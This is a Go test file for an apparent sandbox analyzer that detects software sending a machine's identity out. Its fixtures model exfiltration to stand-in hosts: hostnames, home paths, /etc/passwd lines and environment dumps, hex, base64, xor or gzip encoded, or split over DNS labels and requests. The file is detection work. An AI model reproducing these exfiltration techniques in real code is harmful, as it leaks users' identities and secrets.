package report

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

// persona is the identity events of a run shown host "dana-laptop",
// user "dana", with the environment names the backends set.
func persona(host, user string) []moat.Event {
	id := func(name, v string) moat.Event {
		return moat.Event{Source: moat.SourceMoat, Kind: moat.KindIdentity, Name: name, Data: v}
	}
	return []moat.Event{id("hostname", host), id("user", user), id("home", "/home/"+user), id("cwd", "/work"), id("os release", "6.1.0-18-amd64"),
		id("env", "AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY GITHUB_TOKEN HOME LANG LOGNAME PATH TMPDIR USER")}
}

// identityFinding is the severity and summary of the identity finding.
func identityFinding(fs []moat.Finding) (moat.Severity, string) {
	var sev moat.Severity
	var sum string
	for _, f := range fs {
		if strings.HasPrefix(f.Summary, "sent the machine's identity") && f.Severity.Rank() > sev.Rank() {
			sev, sum = f.Severity, f.Summary
		}
	}
	return sev, sum
}

func post(dst, body string) moat.Event {
	return moat.Event{Source: moat.SourceNetwork, Kind: moat.KindHTTP, Name: dst, Addr: "198.18.0.1:443",
		Data: `POST /c HTTP/1.1\r\nHost: ` + dst + `\r\nUser-Agent: python-requests/2.28.1\r\n\r\n` + body}
}

// compressed is s in zlib, or gzip.
func compressed(s string, gz bool) []byte {
	var b bytes.Buffer
	var w io.WriteCloser = zlib.NewWriter(&b)
	if gz {
		w = gzip.NewWriter(&b)
	}
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

// idEvent is one of moat's identity events.
func idEvent(name, v string) moat.Event {
	return moat.Event{Source: moat.SourceMoat, Kind: moat.KindIdentity, Name: name, Data: v}
}

// The boot id and CPU model of the cases that show them, and the exec of
// a setup.py in pip's build directory (its argv names it).
const (
	bootID = "1a4bb539-3da2-44ed-8e20-c27f35d2e9da"
	cpu    = "AMD EPYC 7B13 64-Core Processor"
)

var pipExec = moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/usr/bin/python3",
	Detail: "python3 /tmp/pip-install-k3j2h1g0/evil_0a1b2c3d/setup.py egg_info"}

func TestIdentity(t *testing.T) {
	t.Parallel()
	const facts = "dana-laptop|dana|/work"
	js, _ := json.Marshal(map[string]string{"h": "dana-laptop", "u": "dana", "c": "/work/pkg"})
	hx := hex.EncodeToString([]byte("dana-laptop:/home/dana"))
	var dnsSplit []moat.Event
	for i := 0; i < len(hx); i += 16 {
		dnsSplit = append(dnsSplit, moat.Event{Source: moat.SourceNetwork, Kind: moat.KindDNS,
			Name: fmt.Sprintf("s1.c%d.%s.oast.example", i/16, hx[i:min(i+16, len(hx))])})
	}
	// as recon_beacon.py does: a short last chunk, not its name's longest label
	var dnsTail []moat.Event
	hx2 := hex.EncodeToString([]byte("3f2a9b1c0d4e|/home/ci"))
	for i := 0; i < len(hx2); i += 20 {
		dnsTail = append(dnsTail, moat.Event{Source: moat.SourceNetwork, Kind: moat.KindDNS,
			Name: fmt.Sprintf("s7.c%d.%s.probe.oast.example", i/20, hx2[i:min(i+20, len(hx2))])})
	}
	var chunks []moat.Event
	b64 := base64.StdEncoding.EncodeToString([]byte("host=dana-laptop&user=dana"))
	for i := 0; i < len(b64); i += 8 {
		chunks = append(chunks, post("collect.example", b64[i:min(i+8, len(b64))]))
	}
	env := "PATH=/usr/bin\nHOME=/home/dana\nLANG=C.UTF-8\nGITHUB_TOKEN=ghp_x\nAWS_ACCESS_KEY_ID=AK"
	cases := []struct {
		name string
		host string // the persona's host name; "" for dana-laptop
		user string
		evs  []moat.Event
		sev  moat.Severity
		in   string // in the summary
	}{
		{"raw in a JSON body", "", "", []moat.Event{post("collect.example", string(js))}, "high", "hostname (raw), user (raw), cwd (raw)"},
		{"hex", "", "", []moat.Event{post("collect.example", "d="+hex.EncodeToString([]byte(facts)))}, "high", "hostname (hex)"},
		{"base64", "", "", []moat.Event{post("collect.example", base64.StdEncoding.EncodeToString([]byte(facts)))}, "high", "hostname (base64)"},
		{"urlsafe base64", "", "", []moat.Event{post("collect.example", base64.URLEncoding.EncodeToString([]byte("\xfb\xff"+facts+"\xfb\xff")))}, "high", "urlsafe-base64"},
		{"base32", "", "", []moat.Event{post("collect.example", base32.StdEncoding.EncodeToString([]byte(facts)))}, "high", "base32)"},
		{"reversed", "", "", []moat.Event{post("collect.example", reverseString("dana-laptop /home/dana"))}, "high", "hostname (reversed), home (reversed)"},
		{"xor", "", "", []moat.Event{post("collect.example", hex.EncodeToString(xorBytes([]byte("dana-laptop /home/dana"), 0x5a)))}, "high", "hostname (hex, xor 0x5a)"},
		{"zlib in base64", "", "", []moat.Event{post("collect.example", base64.StdEncoding.EncodeToString(compressed(facts, false)))}, "high", "hostname (base64, zlib)"},
		{"gzip", "", "", []moat.Event{post("collect.example", base64.StdEncoding.EncodeToString(compressed(facts, true)))}, "high", "gzip"},
		{"URL escaped in the path", "", "", []moat.Event{{Source: moat.SourceNetwork, Kind: moat.KindHTTP, Name: "collect.example", Addr: "198.18.0.1:80",
			Path: "/?h=" + url.QueryEscape("dana-laptop") + "&p=" + url.QueryEscape("/home/dana/x y")}}, "high", "escaped"},
		{"JSON escaped", "", "", []moat.Event{post("collect.example", `{"h":"\u0064ana-laptop","p":"\/home\/dana"}`)}, "high", "hostname (escaped)"},
		{"hex split over DNS names", "", "", dnsSplit, "high", "to oast.example: hostname (hex)"},
		{"hex split over DNS names, a short last chunk", "3f2a9b1c0d4e", "ci", dnsTail, "high", "to oast.example: hostname (hex), home (hex)"},
		{"base64 split over HTTP requests", "", "", chunks, "high", "hostname (base64)"},
		{"an environment dump", "ip-10-0-3-7", "runner", []moat.Event{post("collect.example", base64.StdEncoding.EncodeToString(compressed(env, true)))}, "high", "an environment dump (5 variable names"},
		{"the host name alone", "", "", []moat.Event{post("collect.example", "n=dana-laptop")}, "medium", "hostname (raw)"},
		{"a common user and cwd alone", "3f2a9b1c0d4e", "runner", []moat.Event{post("collect.example", `{"u":"runner","c":"/work"}`)}, "", ""},
		{"a common user beside the host name", "3f2a9b1c0d4e", "runner", []moat.Event{post("collect.example", `{"h":"3f2a9b1c0d4e","u":"runner"}`)}, "high", "hostname (raw), user (raw)"},
		{"the user inside a longer word", "3f2a9b1c0d4e", "runner", []moat.Event{post("collect.example", "h=3f2a9b1c0d4e&m=frontrunners")}, "medium", ""},
		{"the user only inside the home", "", "", []moat.Event{post("collect.example", "p=/home/dana")}, "medium", "home (raw)"},
		{"localhost", "localhost", "runner", []moat.Event{post("collect.example", "h=localhost&u=runner")}, "", ""},
		{"the Host header naming the destination", "", "", []moat.Event{post("dana-laptop", "hello")}, "", ""},
		{"a destination named as the host", "", "", []moat.Event{{Source: moat.SourceNetwork, Kind: moat.KindHTTP, Name: "dana-laptop", Addr: "198.18.0.1:80", Path: "/dana-laptop/status"}}, "", ""},
		{"loopback", "", "", []moat.Event{{Source: moat.SourceAudit, Kind: moat.KindConnect, Addr: "127.0.0.1:8000", Data: "dana-laptop /home/dana"}}, "", ""},
		{"a unix socket under the user's pytest directory", "", "", []moat.Event{{Source: moat.SourceKernel, Kind: moat.KindConnect, Name: "connect",
			Path: "/tmp/pytest-of-dana/dana-laptop/test_socketpair_unix0/s"}}, "", ""},
		{"a program run from the home", "dana-laptop", "", []moat.Event{{Source: moat.SourceKernel, Kind: moat.KindExec, Name: "execve",
			Path: "/home/dana/.local/bin/dana-laptop-setup", Detail: "dana-laptop-setup --host dana-laptop"}}, "", ""},
		{"a lookup of the machine's own name", "", "", []moat.Event{{Source: moat.SourceNetwork, Kind: moat.KindDNS, Name: "dana-laptop"},
			{Source: moat.SourceNetwork, Kind: moat.KindDNS, Name: "dana-laptop.localdomain"}}, "", ""},
		{"an ordinary request", "", "", []moat.Event{post("pypi.org", `{"name":"requests","path":"/simple/requests/","lang":"en"}`)}, "", ""},
		{"the public address the sink told", "", "", []moat.Event{
			{Source: moat.SourceNetwork, Kind: moat.KindConnect, Name: "ipinfo.io", Addr: "198.18.0.2:443", Path: "/ip", Data: `GET /ip HTTP/1.1\r\nHost: ipinfo.io\r\n\r\n`,
				Detail: "sinkholed tcp http GET (answered as a public-address service: 73.14.201.9)"},
			post("hooks.example", base64.StdEncoding.EncodeToString([]byte(`{"ip": "73.14.201.9", "node": "dana-laptop"}`)))}, "high", "hostname (base64), public address (base64)"},
		{"a public address the program claims", "", "", []moat.Event{
			{Source: moat.SourceAudit, Kind: moat.KindHTTP, Name: "ipinfo.io", Detail: "(answered as a public-address service: 73.14.201.9)"},
			post("hooks.example", `{"ip": "73.14.201.9", "node": "dana-laptop"}`)}, "medium", "hostname (raw)"},
		{"the OS release beside the host name", "", "", []moat.Event{post("collect.example", hex.EncodeToString([]byte("dana-laptop|Linux_6.1.0-18-amd64")))}, "high", "hostname (hex), os release (hex)"},
		{"the OS release alone (pip's User-Agent)", "", "", []moat.Event{post("pypi.example", `{"system":{"name":"Linux","release":"6.1.0-18-amd64"}}`)}, "", ""},
		{"/etc/passwd lines", "", "", []moat.Event{post("collect.example", base64.StdEncoding.EncodeToString([]byte("root:x:0:0:root:/root:/bin/bash\ndana:x:1000:1000::/home/dana:/bin/bash")))},
			"high", "/etc/passwd (base64)"},
		{"a two-letter user beside the host name", "dana-laptop", "al", []moat.Event{post("collect.example", `{"h":"dana-laptop","u":"al"}`)}, "high", "hostname (raw), user (raw)"},
		{"a two-letter user alone", "dana-laptop", "al", []moat.Event{post("collect.example", `{"u":"al"}`)}, "", ""},
		{"a two-letter user only inside words", "dana-laptop", "al", []moat.Event{post("collect.example", "h=dana-laptop&m=also_al1_always")}, "medium", "hostname (raw)"},
		{"the pip build path", "", "", []moat.Event{pipExec, post("collect.example", `{"cwd":"/tmp/pip-install-k3j2h1g0/evil_0a1b2c3d"}`)}, "medium", "build path (raw)"},
		{"the pip build path in hex beside the host name", "", "", []moat.Event{pipExec,
			post("collect.example", hex.EncodeToString([]byte("dana-laptop|/tmp/pip-install-k3j2h1g0/evil_0a1b2c3d/setup.py")))}, "high", "hostname (hex), build path (hex)"},
		{"a build path the run was never in", "", "", []moat.Event{post("collect.example", `{"cwd":"/tmp/pip-install-k3j2h1g0/evil_0a1b2c3d"}`)}, "", ""},
		{"the boot id", "", "", []moat.Event{idEvent("boot id", bootID), post("collect.example", "b="+bootID)}, "medium", "boot id (raw)"},
		{"the CPU model beside the host name", "", "", []moat.Event{idEvent("cpu model", cpu), post("collect.example", base64.StdEncoding.EncodeToString([]byte(`{"cpu":"`+cpu+`","host":"dana-laptop"}`)))},
			"high", "hostname (base64), cpu model (base64)"},
		{"the CPU model alone", "", "", []moat.Event{idEvent("cpu model", cpu), post("collect.example", `{"cpu":"`+cpu+`"}`)}, "", ""},
		{"a package sending its own version string", "", "", []moat.Event{idEvent("boot id", bootID), idEvent("cpu model", cpu), pipExec,
			post("telemetry.example", `{"package":"evil","version":"0.1.0","python":"3.11.2","platform":"linux"}`)}, "", ""},
		{"a User-Agent with the Python version", "dana-laptop", "al", []moat.Event{idEvent("boot id", bootID), idEvent("cpu model", cpu), pipExec,
			{Source: moat.SourceNetwork, Kind: moat.KindHTTP, Name: "pypi.example", Addr: "198.18.0.1:443",
				Data: `GET /simple/evil/ HTTP/1.1\r\nHost: pypi.example\r\nUser-Agent: pip/23.0.1 {"installer":{"name":"pip","version":"23.0.1"},"implementation":{"name":"CPython","version":"3.11.2"},"system":{"name":"Linux","release":"6.1.0-18-amd64"},"cpu":"x86_64"}\r\n\r\n`}}, "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			host, user := c.host, c.user
			if host == "" {
				host, user = "dana-laptop", "dana"
			}
			sev, sum := identityFinding(Analyze(append(persona(host, user), c.evs...)))
			if sev != c.sev || !strings.Contains(sum, c.in) {
				t.Errorf("got %q %q, want %q with %q", sev, sum, c.sev, c.in)
			}
		})
	}
}

// TestIdentityNoFacts: a run without identity events (an older report,
// or NoReport) gets no identity finding whatever it sent.
func TestIdentityNoFacts(t *testing.T) {
	t.Parallel()
	if sev, sum := identityFinding(Analyze([]moat.Event{post("collect.example", "root:x:0:0:root:/root:/bin/bash")})); sev != "" {
		t.Errorf("got %s %s", sev, sum)
	}
}

// FuzzIdentity: whatever a program sends, the rule ends without a panic
// and its findings are well formed.
func FuzzIdentity(f *testing.F) {
	f.Add("dana-laptop /home/dana", "collect.example")
	f.Add(hex.EncodeToString([]byte("dana-laptop")), "x.y.oast.example")
	f.Add(`\x0d\x0aHost: dana-laptop\x0d\x0a\x0d\x0a\u00`, "http://dana-laptop/")
	f.Fuzz(func(t *testing.T, data, dst string) {
		evs := append(persona("dana-laptop", "dana"),
			moat.Event{Source: moat.SourceNetwork, Kind: moat.KindHTTP, Name: dst, Addr: "198.18.0.1:80", Path: data, Data: data},
			moat.Event{Source: moat.SourceNetwork, Kind: moat.KindDNS, Name: data + "." + dst})
		for _, fd := range Analyze(evs) {
			if fd.Severity.Rank() == 0 || len(fd.Evidence) > maxEvidence {
				t.Fatalf("bad finding %+v", fd)
			}
		}
	})
}
